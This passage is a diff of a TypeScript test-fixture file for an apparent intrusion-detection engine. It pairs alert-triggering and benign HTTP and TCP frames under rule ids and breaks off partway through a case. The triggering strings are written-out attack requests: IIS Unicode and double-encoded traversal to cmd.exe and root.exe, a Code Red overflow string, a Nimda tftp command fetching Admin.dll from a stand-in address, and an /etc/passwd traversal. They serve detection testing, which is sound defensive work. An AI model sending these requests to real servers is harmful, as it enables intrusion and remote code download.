@@ -4,18 +4,20 @@
 
 import { concat, ethernet, filler, ipv4, tcp } from "../frame.js";
 import type { TimedFrame } from "../letter.js";
-import { answer, asked, fragments, get, opening, SERVER, STRANGER, segment, timed } from "./talk.js";
+import { answer, asked, fragments, getText, opening, SERVER, STRANGER, segment, timed } from "./talk.js";
 
 export interface StarterCase {
   readonly sid: number;
   readonly name: string;
   readonly hit: readonly TimedFrame[];
   readonly miss: readonly TimedFrame[];
+  /** The request, where the hit is one and nothing else: however it is cut into segments, it gives the alert. */
+  readonly request?: string;
 }
 
 const CODE_RED = (letter: string): string =>
   `/default.ida?${letter.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801=a`;
-const request = "GET /index.html HTTP/1.0\r\nHost: www\r\nAccept: */*\r\n\r\n";
+const ORDINARY = "GET /index.html HTTP/1.0\r\nHost: www\r\nAccept: */*\r\n\r\n";
 
 /** Data of a conversation that nobody saw open; `times` sent, each the same. */
 function stray(times: number, flags: string): Uint8Array[] {
@@ -51,45 +53,55 @@ function one(
   return { sid, name, hit: timed(hit, stepMs), miss: timed(miss, stepMs) };
 }
 
+/** A request in a whole conversation, and another one. */
+function request(sid: number, name: string, hit: string, miss: string): StarterCase {
+  return { ...one(sid, name, asked(hit), asked(miss)), request: hit };
+}
+
+/** The same for requests of which only the path is told. */
+function path(sid: number, name: string, hit: string, miss: string): StarterCase {
+  return request(sid, name, getText(hit), getText(miss));
+}
+
 export const STARTER_CASES: readonly StarterCase[] = [
-  one(
-    9000001,
-    "iis-c1-1c",
-    get("/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
-    get("/scripts/c1-1c/..%2f"),
+  path(9000001, "iis-c1-1c", "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "/scripts/..%2f../%c1%1c"),
+  path(9000002, "iis-c0-af", "/scripts/..%c0%af../winnt/x", "/caf%c3%a9../%c0%af"),
+  path(9000003, "iis-c0-2f", "/scripts/..%c0%2f../winnt/x", "/scripts/..%2f../%c0%2f"),
+  path(9000004, "iis-c1-9c", "/msadc/..%c1%9c../x", "/msadc/..%5c../%c1%9c"),
+  path(9000005, "iis-255c", "/scripts/..%255c../winnt/x", "/search?discount=..%25&off"),
+  path(9000006, "iis-35-63", "/scripts/..%%35%63../winnt/x", "/list?a=..%%36"),
+  path(
+    9000011,
+    "cmd-exe",
+    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
+    "/wiki/winnt/system32/cmd.exe.html?action=edit",
   ),
-  one(9000002, "iis-c0-af", get("/scripts/..%c0%af../winnt/x"), get("/caf%c3%a9/%c0-af")),
-  one(9000003, "iis-c0-2f", get("/scripts/..%c0%2f../winnt/x"), get("/scripts/..%2f../x")),
-  one(9000004, "iis-c1-9c", get("/msadc/..%c1%9c../x"), get("/c1%9c")),
-  one(9000005, "iis-255c", get("/scripts/..%255c../winnt/x"), get("/search?discount=..%25&off")),
-  one(9000006, "iis-35-63", get("/scripts/..%%35%63../winnt/x"), get("/list?a=..%%36")),
-  one(9000011, "cmd-exe", get("/c/winnt/system32/cmd.exe?/c+dir"), get("/docs/winnt/cmd.html")),
-  one(9000012, "root-exe", get("/scripts/root.exe?/c+dir"), get("/downloads/root.exe.txt")),
-  one(
+  path(9000012, "root-exe", "/scripts/root.exe?/c+dir", "/downloads/root.exe"),
+  request(
     9000013,
     "nimda-header",
-    asked("GET / HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n"),
-    asked("GET / HTTP/1.0\r\nHost: www\r\nConnection: close\r\n\r\n"),
+    "GET / HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n",
+    "GET / HTTP/1.0\r\nHost: www\r\nConnection: close\r\n\r\n",
   ),
-  one(
+  path(
     9000014,
     "nimda-tftp",
-    get("/scripts/root.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll"),
-    get("/help?topic=tftp%20-i%20host%20PUT%20file"),
+    "/scripts/root.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll",
+    "/help?topic=tftp%20-i%20host%20PUT%20Admin.dll",
   ),
-  one(9000021, "code-red", get(CODE_RED("N")), get("/default.ida?NNNNNNNN")),
-  one(9000022, "code-red-2", get(CODE_RED("X")), get("/default.ida?q=XXXXXXXX%u9090")),
-  one(
+  path(9000021, "code-red", CODE_RED("N"), "/default.ida?NNNNNNNN"),
+  path(9000022, "code-red-2", CODE_RED("X"), "/default.ida?q=XXXXXXXX%u9090"),
+  request(
     9000023,
     "code-red-2-body",
-    asked(`POST /x HTTP/1.0\r\n\r\n${"x".repeat(90)}CodeRedII`),
-    asked("GET /news/code-red-ii HTTP/1.0\r\n\r\n"),
+    `POST /x HTTP/1.0\r\nContent-Length: 120\r\n\r\n${"x".repeat(90)}CodeRedII\0${"y".repeat(20)}`,
+    getText("/search?q=CodeRedII"),
   ),
-  one(9000031, "climbing-path", get("/a/%2e%2e/%2e%2e/etc/passwd"), get("/a/b/../c.html")),
-  one(9000032, "overlong-path", get("/a%c0%ae%c0%ae/b"), get("/caf%c3%a9")),
-  one(9000033, "path-encoded-twice", get("/a%252e%252e/b"), get("/go?url=http%253A%252F%252Fwww")),
-  one(9000101, "fin-with-data", stray(1, "FPA"), [...opening(), segment(request, { flags: "FPA" })]),
-  one(9000102, "unanswered", stray(2, "PA"), [...opening(), segment(request), segment(request)], 3000),
+  path(9000031, "climbing-path", "/a/%2e%2e/%2e%2e/etc/passwd", "/a/b/../c.html"),
+  path(9000032, "overlong-path", "/a%c0%ae%c0%ae/b", "/caf%c3%a9"),
+  path(9000033, "path-encoded-twice", "/a%252e%252e/b", "/go?url=http%253A%252F%252Fwww"),
+  one(9000101, "fin-with-data", stray(1, "FPA"), [...opening(), segment(ORDINARY, { flags: "FPA" })]),
+  one(9000102, "unanswered", stray(2, "PA"), [...opening(), segment(ORDINARY), segment(ORDINARY)], 3000),
   one(
     9000103,
     "leaky-filter",
